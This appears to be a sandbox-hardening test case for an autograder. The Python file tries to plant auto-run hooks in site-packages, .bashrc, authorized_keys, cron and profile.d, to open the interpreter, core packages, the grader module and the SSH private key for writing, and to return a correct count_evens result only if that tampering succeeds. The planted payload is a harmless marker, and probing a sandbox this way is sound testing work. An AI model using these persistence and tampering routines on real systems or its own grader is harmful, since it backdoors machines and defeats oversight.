"""F10: changes installed packages, and what Python and its tools run at their start."""

# %% count_evens
import os, sys, sysconfig

code = "open('/tmp/attack-f10', 'w').write('was here')\n"
new = [
    f"{SITE}/{name}"
    for name in ("attack-f10.pth", "sitecustomize.py", "usercustomize.py", "torch/attack-f10.py")
]
new += [
    f"{HOME}/{name}"
    for name in (
        ".ipython/profile_default/startup/00-attack.py",
        ".jupyter/jupyter_config.py",
        ".bashrc",
        ".pdbrc",
        ".config/matplotlib/matplotlibrc",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".ssh/authorized_keys",
        ".cache/attack-f10",
    )
]
new += [
    "/etc/profile.d/attack-f10.sh",
    "/etc/cron.d/attack-f10",
    sysconfig.get_path("stdlib") + "/attack-f10.py",
]
kit = sys.modules["autograde.sandbox.wire"].__file__
new += [os.path.join(os.path.dirname(kit), "__pycache__", "attack-f10.pyc")]
for path in new:
    for way in (
        lambda: os.makedirs(os.path.dirname(path), exist_ok=True),
        lambda: open(path, "x").write(code),
    ):
        try:
            way()
        except OSError as error:
            print(error)
# What is there is opened for changes, and left as it is: others need it should this succeed.
opened = []
for path in (
    f"{SITE}/torch/__init__.py",
    f"{SITE}/numpy/__init__.py",
    f"{SITE}/_pytest/__init__.py",
    sys.executable,
    os.__file__,
    kit,
    f"{HOME}/.ssh/id_ed25519",
):
    for mode in (os.O_WRONLY, os.O_RDWR, os.O_APPEND | os.O_WRONLY):
        try:
            opened.append(os.open(path, mode))
        except OSError as error:
            print(error)


def count_evens(numbers):
    return sum(number % 2 == 0 for number in numbers) if opened else -1
